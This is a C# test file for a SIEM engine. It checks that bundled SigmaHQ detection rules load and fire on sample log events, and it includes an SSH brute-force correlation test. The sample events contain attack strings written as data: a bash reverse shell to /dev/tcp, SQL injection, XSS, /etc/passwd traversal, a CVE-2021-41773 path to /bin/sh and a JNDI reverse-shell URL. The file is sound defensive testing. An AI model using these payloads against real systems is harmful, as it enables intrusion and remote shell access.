using Konfido.Siem.Events;
using Konfido.Siem.Parsing;
using Konfido.Siem.Sigma;

namespace Konfido.Siem.Tests.Sigma;

/// <summary>Real public Sigma rules (SigmaHQ, DRL 1.1; see Corpus/README.md) load with a per-rule report and fire on their events.</summary>
public sealed class CorpusTests
{
    private static readonly string CorpusDirectory = Path.Combine(AppContext.BaseDirectory, "Corpus");

    private static SigmaRuleSet Corpus() => SigmaRuleSet.LoadDirectory(CorpusDirectory);

    [Fact]
    public void Every_corpus_rule_loads_and_the_report_names_each_one()
    {
        var set = Corpus();
        Assert.Equal(26, Directory.EnumerateFiles(CorpusDirectory, "*.yml", SearchOption.AllDirectories).Count());
        Assert.Equal(27, set.Report.Count); // one file holds a rule and its correlation
        Assert.All(set.Report, r => Assert.True(r.Loaded, $"{r.File}: {r.Reason}"));
        Assert.Equal(26, set.Rules.Count);
        Assert.Single(set.Correlations);
        Assert.All(set.Report, r => Assert.False(string.IsNullOrEmpty(r.Title)));
    }

    private static List<string> Titles(SigmaRuleSet set, string json) =>
        set.CreateEvaluator().Evaluate(EventObject.ParseJson(json)).Select(r => r.Title).ToList();

    [Theory]
    [InlineData("""{"cs-method":"GET","cs-uri-query":"id=1 UNION SELECT password FROM users","sc-status":200}""", "SQL Injection Strings")]
    [InlineData("""{"cs-method":"GET","cs-uri-query":"q=<svg onload=alert(1)>","sc-status":200}""", "Cross Site Scripting Strings")]
    [InlineData("""{"cs-uri-query":"/download?file=../../../etc/passwd"}""", "Path Traversal Exploitation Attempts")]
    [InlineData("""{"cs-uri-query":"/cgi-bin/.%2e/.%2e/bin/sh","sc-status":200}""", "CVE-2021-41773 Exploitation Attempt")]
    [InlineData("""{"url":"/Basic/ReverseShell/10.0.0.1/4444"}""", "JNDIExploit Pattern")]
    [InlineData("""{"message":"sshd[77]: error: Corrupted MAC on input."}""", "Suspicious OpenSSH Daemon Error")]
    [InlineData("""{"message":"bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"}""", "Suspicious Use of /dev/tcp")]
    [InlineData("""{"message":"*** stack smashing detected ***: terminated"}""", "Buffer Overflow Attempts")]
    [InlineData("""{"USER":"#-1"}""", "Sudo Privilege Escalation CVE-2019-14287 - Builtin")]
    [InlineData("""{"c-useragent":""}""", "HTTP Request With Empty User Agent")]
    [InlineData("""{"cs-host":"api.telegram.org","c-useragent":"python-requests/2.31"}""", "Telegram API Access")]
    [InlineData("""{"c-uri":"https://evil.example/r?u=aHR0cHM6Ly9waGlzaA"}""", "Base64 Encoded URL In Web Request")]
    [InlineData("""{"c-uri":"https://x.ghostbin.co/paste/abc/raw/"}""", "Raw Paste Service Access")]
    [InlineData("""{"c-uri":"search-ms:query=invoice&crumb=location:\\\\webdav.evil\\share","dst_ip":"203.0.113.5"}""", "Search-ms and WebDAV Suspicious Indicators in URL")]
    [InlineData("""{"message":"near \"x'\": syntax error"}""", "Suspicious SQL Error Messages")]
    [InlineData("""{"message":"pkexec: The value for environment variable XAUTHORITY contains suscipious content [USER=root] [TTY=/dev/pts/0]"}""", "PwnKit Local Privilege Escalation")]
    public void Corpus_rule_fires_on_its_event(string json, string title)
    {
        Assert.Contains(title, Titles(Corpus(), json));
    }

    [Theory]
    [InlineData("""{"cs-method":"GET","cs-uri-query":"id=1 UNION SELECT password","sc-status":404}""", "SQL Injection Strings")]
    [InlineData("""{"cs-host":"api.telegram.org","c-useragent":"TelegramBot (like TwitterBot)"}""", "Telegram API Access")]
    [InlineData("""{"c-uri":"search-ms:query=invoice&crumb=location:\\\\webdav.evil\\share","dst_ip":"10.1.2.3"}""", "Search-ms and WebDAV Suspicious Indicators in URL")]
    [InlineData("""{"message":"pkexec must be setuid root"}""", "PwnKit Local Privilege Escalation")]
    [InlineData("""{"c-useragent":"Mozilla/5.0"}""", "HTTP Request With Empty User Agent")]
    public void Corpus_rule_filters_hold(string json, string title)
    {
        Assert.DoesNotContain(title, Titles(Corpus(), json));
    }

    [Fact]
    public void Corpus_sshd_correlation_counts_failures_per_public_address()
    {
        var set = Corpus();
        var engine = new DetectionEngine(set);
        var fired = new List<string>();
        for (var i = 0; i < 60; i++)
        {
            var ip = i % 2 == 0 ? "203.0.113.7" : "10.0.0.7"; // private addresses are filtered out
            var json = $$"""{"@timestamp":"2026-02-01T03:{{i / 10:00}}:{{i % 10 * 5:00}}Z","message":"Failed password for root from {{ip}}","user_name":"root","client_ip":"{{ip}}","deviceProcessName":"sshd","host":"bastion"}""";
            fired.AddRange(engine.Process(EventObject.ParseJson(json)).Correlations.Select(c => c.Rule.Id));
        }

        Assert.Empty(fired); // 30 public failures < 50
        for (var i = 0; i < 20; i++)
        {
            var json = $$"""{"@timestamp":"2026-02-01T03:06:{{i:00}}Z","message":"Failed password for admin","user_name":"admin","client_ip":"203.0.113.7","deviceProcessName":"sshd","host":"bastion"}""";
            fired.AddRange(engine.Process(EventObject.ParseJson(json)).Correlations.Select(c => c.Rule.Id));
        }

        Assert.Equal(["f55634e2-baa3-489b-bbce-0c9818cf62ee"], fired);
    }

    [Fact]
    public void Corpus_with_the_node_configuration_matches_parsed_proxy_and_syslog_lines()
    {
        var loader = new SigmaRuleLoader(BundledRules.Configuration);
        loader.AddDirectory(CorpusDirectory);
        var set = loader.Build();
        Assert.All(set.Report, r => Assert.True(r.Loaded, $"{r.File}: {r.Reason}"));
        using var pseudonymiser = new PatientPseudonymiser(new byte[32]);
        var parser = new LogParser(LogFormat.Auto, pseudonymiser);
        var evaluator = set.CreateEvaluator();

        var cef = parser.Parse("CEF:0|Squid|Proxy|6.1|TCP_MISS|proxy request|3|src=10.1.1.1 dhost=api.telegram.org request=https://api.telegram.org/bot1/sendMessage requestClientApplication=curl/8.5.0");
        Assert.Contains("Telegram API Access", evaluator.Evaluate(cef).Select(r => r.Title));

        var sshd = parser.Parse("<38>Feb  1 03:00:00 bastion sshd[123]: error: Corrupted MAC on input.");
        Assert.Contains("Suspicious OpenSSH Daemon Error", evaluator.Evaluate(sshd).Select(r => r.Title));

        // Linux rules do not fire on events of other log sources.
        var web = EventObject.ParseJson("""{"event":{"dataset":"webserver"},"message":"Corrupted MAC on input"}""");
        Assert.DoesNotContain("Suspicious OpenSSH Daemon Error", evaluator.Evaluate(web).Select(r => r.Title));
    }
}
